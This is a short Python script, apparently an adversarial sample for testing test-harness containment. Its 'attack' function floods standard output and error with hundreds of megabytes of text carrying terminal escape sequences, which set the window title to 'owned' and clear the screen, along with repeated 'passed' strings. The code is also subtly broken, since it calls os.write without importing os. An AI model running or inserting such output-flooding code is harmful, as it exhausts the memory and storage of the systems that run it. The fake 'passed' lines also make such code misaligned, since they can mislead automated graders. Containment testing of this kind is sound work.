# Prints hundreds of megabytes to standard output and error, with control sequences for the terminal.
# A harness that keeps the output in memory, or in a file, is full.
# contained: passed
import sys


def attack():
    text = "\x1b]0;owned\x07\x1b[2J passed\n" * 100_000
    for _ in range(50):
        sys.stdout.write(text)
        sys.stderr.write(text)
        os.write(1, text.encode())
        os.write(2, text.encode())
